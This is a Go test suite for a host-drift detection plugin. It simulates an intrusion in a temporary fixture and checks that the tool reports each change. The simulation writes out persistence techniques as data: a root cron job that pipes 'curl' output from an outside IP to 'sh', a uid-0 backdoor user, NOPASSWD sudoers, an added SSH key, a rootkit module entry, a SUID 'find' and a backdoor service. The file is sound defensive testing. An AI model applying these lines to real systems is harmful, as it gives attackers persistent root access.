//go:build linux

package main

import (
	"encoding/json"
	"os"
	"os/exec"
	"path/filepath"
	"strings"
	"testing"

	corev2 "github.com/sensu/sensu-go/api/core/v2"
	"github.com/stretchr/testify/require"

	"github.com/vigil-sec/vigil/pkg/plugin"
	"github.com/vigil-sec/vigil/pkg/testutil"
)

const key = "host-test-key-7c4a8d09ca3762af"

// shadowHash is alice's password hash in the fixture: it must never show.
const shadowHash = "$y$j9T$F5Jx5fExrKuJfXt4aB3XN.$KkS2qD3zM0e5dQ0f1bqmkS1v2fHn6cVdbGu9lJH3N3A"

// host copies the fixture host tree (testdata/root) to a temporary
// directory, sets the SUID bits git does not keep, and returns the root
// and a baseline path outside it.
func host(t *testing.T) (string, string) {
	t.Helper()
	dir := t.TempDir()
	root := filepath.Join(dir, "root")
	out, err := exec.Command("cp", "-a", "testdata/root", root).CombinedOutput()
	require.NoError(t, err, string(out))
	for _, p := range []string{"usr/bin/sudo", "usr/bin/passwd", "usr/lib/openssh/ssh-keysign"} {
		require.NoError(t, os.Chmod(filepath.Join(root, p), 0o755|os.ModeSetuid))
	}
	return root, filepath.Join(dir, "state", "host.json")
}

func cmd(root, baseline string, extra ...string) string {
	return strings.Join(append([]string{"check-host-drift", "--root", testutil.Shell(root), "--baseline", testutil.Shell(baseline),
		"--firewall-file", "/etc/firewall/ruleset.json"}, extra...), " ")
}

func write(t *testing.T, root, p, content string) {
	t.Helper()
	require.NoError(t, os.MkdirAll(filepath.Join(root, filepath.Dir(p)), 0o755))
	require.NoError(t, os.WriteFile(filepath.Join(root, p), []byte(content), 0o644))
}

func TestInitCompareUpdateAsSensuRunsIt(t *testing.T) {
	t.Parallel()
	h := testutil.New(t)
	root, baseline := host(t)
	env := []string{"VIGIL_HOST_HMAC_KEY=" + key}

	resp := h.Exec(cmd(root, baseline, "--init"), "", env...)
	require.Equal(t, 0, resp.Status, resp.Output)
	require.Contains(t, resp.Output, "check-host-drift OK - baseline recorded: 47 items in 11 facets, in "+baseline)
	fi, err := os.Stat(baseline)
	require.NoError(t, err)
	require.Equal(t, os.FileMode(0o600), fi.Mode().Perm())
	b, err := os.ReadFile(baseline)
	require.NoError(t, err)
	testutil.RequireNoSecret(t, string(b), shadowHash)
	testutil.RequireNoSecret(t, string(b), "hunter2")
	testutil.RequireNoSecret(t, string(b), "AAAAC3NzaC1lZDI1NTE5")

	check := &corev2.CheckConfig{ObjectMeta: corev2.ObjectMeta{Name: "host-drift"}, Command: cmd(root, baseline), Timeout: 60,
		OutputMetricFormat: corev2.NagiosOutputMetricFormat, EnvVars: env}
	ev := h.RunCheck(check)
	require.EqualValues(t, 0, ev.Check.Status, ev.Check.Output)
	require.True(t, strings.HasPrefix(ev.Check.Output, "check-host-drift OK - no drift in 47 items across 11 facets |"), ev.Check.Output)

	// The intruder's day.
	pub, err := os.ReadFile("testdata/mallory.pub")
	require.NoError(t, err)
	f, err := os.OpenFile(filepath.Join(root, "root/.ssh/authorized_keys"), os.O_APPEND|os.O_WRONLY, 0o600)
	require.NoError(t, err)
	_, err = f.Write(pub)
	require.NoError(t, err)
	require.NoError(t, f.Close())
	passwd, _ := os.ReadFile(filepath.Join(root, "etc/passwd"))
	write(t, root, "etc/passwd", string(passwd)+"mallory:x:0:0::/root:/bin/bash\n")
	write(t, root, "etc/sudoers.d/mallory", "mallory ALL=(ALL) NOPASSWD: ALL\n")
	write(t, root, "etc/cron.d/sync", "*/5 * * * * root curl -s http://203.0.113.7/x | sh\n")
	write(t, root, "proc/net/tcp", mustRead(t, filepath.Join(root, "proc/net/tcp"))+"   3: 00000000:115C 00000000:0000 0A 00000000:00000000 00:00000000 00000000     0        0 44444 1 0000000000000000 100 0 0 10 0\n")
	write(t, root, "proc/modules", mustRead(t, filepath.Join(root, "proc/modules"))+"diamorphine 16384 0 - Live 0x0000000000000000 (OE)\n")
	write(t, root, "proc/sys/net/ipv4/ip_forward", "1\n")
	write(t, root, "usr/bin/find", "find")
	require.NoError(t, os.Chmod(filepath.Join(root, "usr/bin/find"), 0o755|os.ModeSetuid))
	require.NoError(t, os.Symlink("/etc/systemd/system/backdoor.service", filepath.Join(root, "etc/systemd/system/multi-user.target.wants/backdoor.service")))
	fw, _ := os.ReadFile("testdata/port-4444.json")
	write(t, root, "etc/firewall/ruleset.json", string(fw))
	write(t, root, "var/lib/dpkg/status", strings.Replace(mustRead(t, filepath.Join(root, "var/lib/dpkg/status")), "1:9.2p1-2+deb12u3", "1:9.2p1-2+deb12u4", 1))

	ev = h.RunCheck(check)
	require.EqualValues(t, 2, ev.Check.Status, ev.Check.Output)
	out := ev.Check.Output
	require.True(t, strings.HasPrefix(out, "check-host-drift CRITICAL - 13 changes across 11 facets: 9 high, 3 medium, 1 low |"), out)
	for _, want := range []string{
		"[high] host.authorized_key_added root SHA256:9W8X+e3oWey/0wNaKsv8Xrlw3L6Wd/Y+3zhMAeaQttE: ED25519 authorized key SHA256:9W8X+e3oWey/0wNaKsv8Xrlw3L6Wd/Y+3zhMAeaQttE for root (mallory@203.0.113.7) added",
		"[high] host.user_added user mallory: user mallory added: gid 0, home /root, password no shadow entry, shell /bin/bash, uid 0",
		"[high] host.sudoers_changed /etc/sudoers.d/mallory: sudoers file /etc/sudoers.d/mallory added: mallory ALL:(ALL) NOPASSWD: ALL",
		"[medium] host.cron_changed /etc/cron.d/sync: scheduled job file /etc/cron.d/sync added: lines 1, sha256 ",
		"[high] host.port_opened tcp 0.0.0.0:4444: listening socket 4444/tcp on 0.0.0.0 opened",
		"[high] host.module_loaded diamorphine: kernel module diamorphine loaded",
		"[medium] host.sysctl_changed net.ipv4.ip_forward: sysctl net.ipv4.ip_forward changed: value 0 → 1",
		"[high] host.suid_added /usr/bin/find: SUID/SGID binary /usr/bin/find appeared: mode 4755",
		"[medium] host.unit_enabled multi-user.target.wants/backdoor.service: enabled unit backdoor.service enabled",
		"[high] host.firewall_changed chain inet filter input: firewall chain inet filter input changed: rules 3 → 4, sha256 ",
		"[low] host.package_changed openssh-server:amd64: package openssh-server changed: version 1:9.2p1-2+deb12u3 → 1:9.2p1-2+deb12u4",
	} {
		require.Contains(t, out, want)
	}
	require.NotContains(t, out, "curl", "crontab lines are never shown")
	testutil.RequireNoSecret(t, out, key)

	resp = h.Exec(cmd(root, baseline, "--update"), "", env...)
	require.Equal(t, 0, resp.Status, resp.Output)
	require.Contains(t, resp.Output, "check-host-drift OK - baseline updated: 13 changes accepted")
	require.Contains(t, resp.Output, "accepted: [high] host.user_added user mallory")
	require.EqualValues(t, 0, h.RunCheck(check).Check.Status)
}

func mustRead(t *testing.T, p string) string {
	t.Helper()
	b, err := os.ReadFile(p)
	require.NoError(t, err)
	return string(b)
}

func TestRemovalsAllowListAndSeverities(t *testing.T) {
	t.Parallel()
	h := testutil.New(t)
	root, baseline := host(t)
	require.Equal(t, 0, h.Exec(cmd(root, baseline, "--init"), "").Status)
	write(t, root, "proc/net/tcp", strings.Join(strings.Split(mustRead(t, filepath.Join(root, "proc/net/tcp")), "\n")[:2], "\n")+"\n")
	write(t, root, "home/alice/.ssh/authorized_keys", "")
	write(t, root, "var/lib/dpkg/status", strings.Replace(mustRead(t, filepath.Join(root, "var/lib/dpkg/status")), "6.1.76-1", "6.1.85-1", 1))
	allow, err := filepath.Abs("testdata/allow.yaml")
	require.NoError(t, err)

	resp := h.Exec(cmd(root, baseline, "--format json"), "")
	require.Equal(t, 1, resp.Status, resp.Output)
	var rep plugin.Report
	require.NoError(t, json.Unmarshal([]byte(resp.Output), &rep))
	rules := map[string]string{}
	for _, f := range rep.Findings {
		rules[f.Object] = f.Rule + " " + f.Kind + " " + f.Severity.String()
	}
	require.Equal(t, map[string]string{
		"tcp 127.0.0.1:3306": "host.port_closed removed low",
		"alice SHA256:4zyxkiM+skhEZYBaMjhwAGWq39eY7Favg6m/lZHDC3g": "host.authorized_key_removed removed low",
		"alice SHA256:t+AjmDBqMjIxd7YmASQBY0hxbm1UyG2Skzxjr7R2cog": "host.authorized_key_removed removed low",
		"linux-image-6.1.0-18-amd64:amd64":                         "host.package_changed modified low",
	}, rules)

	resp = h.Exec(cmd(root, baseline, "--allow-list", allow, "--severity", "authorized_keys=high", "--severity", "host.port_closed=medium"), "")
	require.Equal(t, 2, resp.Status, resp.Output)
	require.Contains(t, resp.Output, "3 changes across 11 facets: 2 high, 1 medium (1 allowed)")
	require.Contains(t, resp.Output, "[medium] host.port_closed tcp 127.0.0.1:3306")
	require.Contains(t, resp.Output, "[high] host.authorized_key_removed alice SHA256:")
	require.NotContains(t, resp.Output, "linux-image")

	resp = h.Exec(cmd(root, baseline, "--facets packages", "--allow-list", allow), "")
	require.Equal(t, 0, resp.Status, resp.Output)
	require.Contains(t, resp.Output, "check-host-drift OK - no drift in 3 items across 1 facets (1 allowed)")
}

func TestTheBaselineIsProtected(t *testing.T) {
	t.Parallel()
	h := testutil.New(t)
	root, baseline := host(t)
	withKey := "VIGIL_HOST_HMAC_KEY=" + key
	require.Equal(t, 0, h.Exec(cmd(root, baseline, "--init"), "", withKey).Status)
	b, err := os.ReadFile(baseline)
	require.NoError(t, err)

	t.Run("a second --init refuses to overwrite it", func(t *testing.T) {
		resp := h.Exec(cmd(root, baseline, "--init"), "", withKey)
		require.Equal(t, 3, resp.Status)
		require.Equal(t, "check-host-drift UNKNOWN - baseline "+baseline+" already exists: use --update to accept the current state, or remove it to start over\n", resp.Output)
	})
	t.Run("a signed baseline needs the key", func(t *testing.T) {
		resp := h.Exec(cmd(root, baseline), "")
		require.Equal(t, 3, resp.Status)
		require.Equal(t, "check-host-drift UNKNOWN - baseline "+baseline+" is signed: give --hmac-key-file or VIGIL_HOST_HMAC_KEY to verify it\n", resp.Output)
	})
	t.Run("the key can come from a file", func(t *testing.T) {
		keyFile := filepath.Join(t.TempDir(), "key")
		require.NoError(t, os.WriteFile(keyFile, []byte(key+"\n"), 0o600))
		resp := h.Exec(cmd(root, baseline, "--hmac-key-file", keyFile), "")
		require.Equal(t, 0, resp.Status, resp.Output)
		testutil.RequireNoSecret(t, resp.Output, key)
	})
	forge := func(t *testing.T, content []byte) string {
		p := filepath.Join(t.TempDir(), "forged.json")
		require.NoError(t, os.WriteFile(p, content, 0o600))
		return p
	}
	t.Run("an edited baseline is CRITICAL", func(t *testing.T) {
		forged := forge(t, []byte(strings.Replace(string(b), `"user alice"`, `"user alicf"`, 1)))
		resp := h.Exec(cmd(root, forged), "", withKey)
		require.Equal(t, 2, resp.Status, resp.Output)
		require.True(t, strings.HasPrefix(resp.Output, "check-host-drift CRITICAL - baseline "+forged+" failed verification: baseline signature does not verify |"), resp.Output)
		require.Contains(t, resp.Output, "[critical] host.baseline_tampered "+forged)
	})
	t.Run("a baseline re-signed with another key is CRITICAL", func(t *testing.T) {
		resp := h.Exec(cmd(root, baseline), "", "VIGIL_HOST_HMAC_KEY=another-key")
		require.Equal(t, 2, resp.Status, resp.Output)
		require.Contains(t, resp.Output, "baseline signature does not verify (signed with key ")
	})
	t.Run("an unsigned baseline where a key is expected is CRITICAL", func(t *testing.T) {
		dir := t.TempDir()
		unsigned := filepath.Join(dir, "unsigned.json")
		require.Equal(t, 0, h.Exec(cmd(root, unsigned, "--init"), "").Status)
		resp := h.Exec(cmd(root, unsigned), "", withKey)
		require.Equal(t, 2, resp.Status, resp.Output)
		require.Contains(t, resp.Output, "the baseline carries no signature although a key is configured")
	})
	t.Run("a truncated baseline is UNKNOWN with one line", func(t *testing.T) {
		resp := h.Exec(cmd(root, forge(t, b[:len(b)/2])), "", withKey)
		require.Equal(t, 3, resp.Status)
		require.Equal(t, 1, strings.Count(resp.Output, "\n"), resp.Output)
		require.Contains(t, resp.Output, "baseline is damaged")
	})
	t.Run("a file of another kind is UNKNOWN without a key", func(t *testing.T) {
		resp := h.Exec(cmd(root, forge(t, []byte(`{"kind":"check-file-integrity","version":1,"payload":{}}`))), "")
		require.Equal(t, 3, resp.Status)
		require.Contains(t, resp.Output, `baseline is damaged: it holds "check-file-integrity", not "check-host-drift"`)
	})
	t.Run("with a key, an unsigned file of another kind is CRITICAL", func(t *testing.T) {
		resp := h.Exec(cmd(root, forge(t, []byte(`{"kind":"check-file-integrity","version":1,"payload":{}}`))), "", withKey)
		require.Equal(t, 2, resp.Status, resp.Output)
	})
	t.Run("a signed baseline whose version was edited is CRITICAL, not re-run --init", func(t *testing.T) {
		resp := h.Exec(cmd(root, forge(t, []byte(strings.Replace(string(b), `"version":1`, `"version":2`, 1)))), "", withKey)
		require.Equal(t, 2, resp.Status, resp.Output)
		require.Contains(t, resp.Output, "[critical] host.baseline_tampered")
		require.NotContains(t, resp.Output, "--init")
	})
	t.Run("the key never shows", func(t *testing.T) {
		resp := h.Exec(cmd(root, baseline, "--log-level debug --hmac-key "+key), "")
		testutil.RequireNoSecret(t, resp.Output, key)
	})
}

func TestBadInputIsUnknownWithOneLine(t *testing.T) {
	t.Parallel()
	h := testutil.New(t)
	root, baseline := host(t)
	require.Equal(t, 0, h.Exec(cmd(root, baseline, "--init"), "").Status)
	abs := func(p string) string { a, _ := filepath.Abs(p); return a }
	cases := []struct{ name, cmd, want string }{
		{"no baseline yet", cmd(root, baseline+".none"), "check-host-drift UNKNOWN - no baseline at " + baseline + ".none: record one with --init\n"},
		{"init and update together", cmd(root, baseline, "--init --update"), "check-host-drift UNKNOWN - --init and --update cannot be combined: --init records a first baseline, --update accepts changes\n"},
		{"an unknown facet", cmd(root, baseline, "--facets ports,dns"), "check-host-drift UNKNOWN - --facets: unknown facet \"dns\" (want one of ports, users, sudoers, authorized_keys, cron, units, packages, modules, sysctls, suid, firewall)\n"},
		{"an unknown severity key", cmd(root, baseline, "--severity dns=high"), "check-host-drift UNKNOWN - --severity: \"dns\" is neither a facet (ports, users, sudoers, authorized_keys, cron, units, packages, modules, sysctls, suid, firewall) nor a host.* rule id\n"},
		{"an unknown severity", cmd(root, baseline, "--severity ports=loud"), "check-host-drift UNKNOWN - --severity ports: unknown severity \"loud\" (want one of info, low, medium, high, critical)\n"},
		{"a relative root", "check-host-drift --root host", "check-host-drift UNKNOWN - --root \"host\" must be absolute\n"},
		{"an allow-list naming no facet", cmd(root, baseline, "--allow-list", abs("testdata/allow-bad-facet.yaml")), "check-host-drift UNKNOWN - allow-list " + abs("testdata/allow-bad-facet.yaml") + ":3: unknown facet \"services\" (want one of ports, users, sudoers, authorized_keys, cron, units, packages, modules, sysctls, suid, firewall)\n"},
		{"an allow-list field that does not exist", cmd(root, baseline, "--allow-list", abs("testdata/allow-bad-field.yaml")), "check-host-drift UNKNOWN - allow-list " + abs("testdata/allow-bad-field.yaml") + ":2: ports: unknown field \"program\" (want name, key or proto, port, addr, process)\n"},
		{"allow-list YAML that does not parse", cmd(root, baseline, "--allow-list", abs("testdata/allow-bad-yaml.yaml")), "check-host-drift UNKNOWN - allow-list " + abs("testdata/allow-bad-yaml.yaml") + ": line 1: did not find expected ',' or ']'\n"},
		{"a missing allow-list", cmd(root, baseline, "--allow-list /nonexistent.yaml"), "check-host-drift UNKNOWN - read allow-list: open /nonexistent.yaml: no such file or directory\n"},
		{"a truncated firewall file", "check-host-drift --root " + abs("testdata") + " --baseline " + baseline + " --firewall-file /iptables-truncated.rules", "check-host-drift UNKNOWN - --firewall-file /iptables-truncated.rules: table filter has no COMMIT: the output is truncated\n"},
		{"a missing firewall file", "check-host-drift --root " + root + " --baseline " + baseline + " --firewall-file /etc/nope", "check-host-drift UNKNOWN - --firewall-file /etc/nope: does not exist\n"},
	}
	for _, c := range cases {
		t.Run(c.name, func(t *testing.T) {
			t.Parallel()
			resp := h.Exec(c.cmd, "")
			require.Equal(t, 3, resp.Status, resp.Output)
			require.Equal(t, c.want, resp.Output)
		})
	}
}

func TestATruncatedProcFileIsAWarningNotBlindness(t *testing.T) {
	t.Parallel()
	h := testutil.New(t)
	root, baseline := host(t)
	require.Equal(t, 0, h.Exec(cmd(root, baseline, "--init"), "").Status)
	write(t, root, "proc/net/tcp", mustRead(t, "testdata/broken/proc/net/tcp"))
	resp := h.Exec(cmd(root, baseline), "")
	require.Equal(t, 1, resp.Status, resp.Output)
	require.Contains(t, resp.Output, "; read in part: ports |")
	require.Contains(t, resp.Output, "ports: /proc/net/tcp: 1 malformed lines skipped")
	require.Contains(t, resp.Output, "[low] host.port_closed tcp 127.0.0.1:3306")
}

// A facet the baseline holds that cannot be read now is a finding, and
// --update keeps what the baseline knew of it.
func TestAFacetThatBecomesUnreadableIsAFindingAndKeptOnUpdate(t *testing.T) {
	t.Parallel()
	h := testutil.New(t)
	root, baseline := host(t)
	require.Equal(t, 0, h.Exec(cmd(root, baseline, "--init"), "").Status)
	modules := mustRead(t, filepath.Join(root, "proc/modules"))
	require.NoError(t, os.Remove(filepath.Join(root, "proc/modules")))

	resp := h.Exec(cmd(root, baseline, "--severity", "modules=info"), "")
	require.Equal(t, 1, resp.Status, resp.Output)
	require.Contains(t, resp.Output, "[medium] host.facet_unreadable modules: modules was read when the baseline was recorded (3 items) and cannot be read now: /proc/modules: does not exist")

	resp = h.Exec(cmd(root, baseline, "--update"), "")
	require.Equal(t, 0, resp.Status, resp.Output)
	require.Contains(t, resp.Output, "baseline updated: 0 changes accepted; 1 unreadable facets kept from the old baseline (modules)")
	require.Contains(t, resp.Output, "modules: could not be read (/proc/modules: does not exist (a kernel without modules, or a container)): its baseline was kept")

	write(t, root, "proc/modules", modules+"diamorphine 16384 0 - Live 0x0000000000000000 (OE)\n")
	resp = h.Exec(cmd(root, baseline), "")
	require.Equal(t, 2, resp.Status, resp.Output)
	require.Contains(t, resp.Output, "[high] host.module_loaded diamorphine")
}

// A baseline copied from another host is CRITICAL.
func TestABaselineFromAnotherHostIsCritical(t *testing.T) {
	t.Parallel()
	h := testutil.New(t)
	root, baseline := host(t)
	write(t, root, "etc/hostname", "web-1\n")
	require.Equal(t, 0, h.Exec(cmd(root, baseline, "--init"), "").Status)
	require.Contains(t, mustRead(t, baseline), `"host":"web-1"`)
	require.Equal(t, 0, h.Exec(cmd(root, baseline), "").Status)
	write(t, root, "etc/hostname", "db-7\n")
	resp := h.Exec(cmd(root, baseline), "")
	require.Equal(t, 2, resp.Status, resp.Output)
	require.Contains(t, resp.Output, `[critical] host.baseline_tampered `+baseline+`: the baseline was recorded on host "web-1", this is host "db-7"`)
}

// A duplicate line in /etc/group or /etc/passwd is a finding; a
// name-only allow-list entry hides neither it nor a uid becoming 0.
func TestDuplicateLinesAndUIDZeroAreNotHidden(t *testing.T) {
	t.Parallel()
	h := testutil.New(t)
	root, baseline := host(t)
	allow := filepath.Join(t.TempDir(), "allow.yaml")
	require.NoError(t, os.WriteFile(allow, []byte("users: [alice, sudo, daemon]\n"), 0o600))
	require.Equal(t, 0, h.Exec(cmd(root, baseline, "--init"), "").Status)
	write(t, root, "etc/group", mustRead(t, filepath.Join(root, "etc/group"))+"sudo:x:27:mallory\n")
	write(t, root, "etc/passwd", strings.Replace(mustRead(t, filepath.Join(root, "etc/passwd")), "alice:x:1000:", "alice:x:0:", 1))
	resp := h.Exec(cmd(root, baseline, "--allow-list", allow), "")
	require.Equal(t, 2, resp.Status, resp.Output)
	require.Contains(t, resp.Output, "[high] host.user_added group sudo #2: group sudo added: duplicate 2, gid 27, members mallory")
	require.Contains(t, resp.Output, "[high] host.user_added user alice: user alice changed: uid 1000 → 0")
}
